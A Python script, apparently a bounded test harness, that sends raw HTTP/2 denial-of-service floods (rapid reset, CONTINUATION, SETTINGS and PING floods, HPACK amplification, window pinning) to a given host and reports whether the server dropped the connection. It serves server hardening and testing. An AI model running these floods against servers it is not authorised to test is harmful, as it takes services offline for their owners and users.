"""Attacks on an HTTP/2 server with raw frames, each bounded in time and number.

Usage: h2_attacks.py HOST PORT ATTACK SECONDS. Prints one JSON line: whether the server ended the connection, after how
long, and how many frames it took. The caller watches the server's memory and asks it for other things meanwhile.
"""

import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frames written at once: few enough to see the end of the connection soon, enough to be a flood.
BATCH = 100


def fields(path="/", **more):
    return [(":method", "GET"), (":scheme", "http"), (":authority", "attack.test"), (":path", path), *more.items()]


def head(stream, end_stream=True, encoder=None, path="/", **more):
    block = (encoder or Encoder()).encode(fields(path, **more))
    flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
    return HeadersFrame(stream, data=block, flags=flags)


def rapid_reset():
    """CVE-2023-44487: requests that are taken back at once."""
    for stream in range(1, 2**31, 2):
        yield head(stream)
        yield RstStreamFrame(stream, error_code=8)


def continuation_flood():
    """CVE-2024-27316 and its like: a header block that never ends."""
    yield HeadersFrame(1, data=Encoder().encode(fields()))
    encoder = Encoder()
    while True:
        yield ContinuationFrame(1, data=encoder.encode([("x-" + "a" * 100, "b" * 1000)], huffman=False))


def empty_continuations():
    """The same with nothing in it, which no limit of bytes sees."""
    yield HeadersFrame(1, data=Encoder().encode(fields()))
    while True:
        yield ContinuationFrame(1, data=b"")


def settings_flood():
    """CVE-2019-9515: each asks for an acknowledgement, and none is read."""
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})


def ping_flood():
    """CVE-2019-9512: each asks for an answer, and none is read."""
    while True:
        yield PingFrame(0, opaque_data=b"12345678")


def empty_data():
    """CVE-2019-9518: frames that carry nothing and end nothing."""
    yield head(1, end_stream=False)
    while True:
        yield DataFrame(1, data=b"")


def cookie_crumbs():
    """CVE-2016-6581 and its like: a table entry named again and again, small on the wire and large when read."""
    encoder = Encoder()
    block = encoder.encode(fields(), huffman=False)
    block += encoder.encode([("cookie", "a" * 3000)], huffman=False)
    # The entry is now the newest of the dynamic table: 62.
    for stream in range(1, 2**31, 2):
        yield HeadersFrame(stream, data=block + bytes([0x80 | 62]) * 4000, flags=["END_HEADERS", "END_STREAM"])
        block = encoder.encode(fields(), huffman=False)


def window_pinned():
    """CVE-2019-9517: large answers are asked for and the windows never open."""
    yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    encoder = Encoder()
    for stream in range(1, 401, 2):
        yield head(stream, encoder=encoder, path="/large")


def window_overflow():
    """A window beyond 2^31 - 1 (RFC 9113 section 6.9.1)."""
    while True:
        yield WindowUpdateFrame(0, window_increment=2**31 - 1)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        continuation_flood,
        empty_continuations,
        settings_flood,
        ping_flood,
        empty_data,
        cookie_crumbs,
        window_pinned,
        window_overflow,
    )
}
# These want the server's answers to pile up, so nothing is read while they run.
DEAF = {"settings_flood", "ping_flood"}


def batches(frames):
    batch, size = [], 0
    for frame in frames:
        batch.append(frame.serialize())
        if len(batch) == BATCH:
            yield batch
            batch = []
    if batch:
        yield batch


def drain(connection):
    """Reads what is there. Whether the server has ended the connection."""
    connection.setblocking(False)
    try:
        while True:
            if not connection.recv(65536):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def attack(host, port, name, seconds):
    begin = time.monotonic()
    connection = socket.create_connection((host, port), timeout=seconds)
    connection.sendall(PREFACE + SettingsFrame(0).serialize())
    sent = 0
    try:
        for batch in batches(ATTACKS[name]()):
            connection.settimeout(max(0.01, seconds - (time.monotonic() - begin)))
            connection.sendall(b"".join(batch))
            sent += len(batch)
            if name not in DEAF and drain(connection):
                return True, time.monotonic() - begin, sent
            if time.monotonic() - begin > seconds:
                return False, time.monotonic() - begin, sent
        while time.monotonic() - begin < seconds:
            time.sleep(0.05)
            if drain(connection):
                return True, time.monotonic() - begin, sent
    except TimeoutError:
        pass
    except OSError:
        return True, time.monotonic() - begin, sent
    return drain(connection), time.monotonic() - begin, sent


def main():
    host, port, name, seconds = sys.argv[1:]
    closed, took, frames = attack(host, int(port), name, float(seconds))
    print(json.dumps({"closed": closed, "seconds": round(took, 3), "frames": frames}))


main()
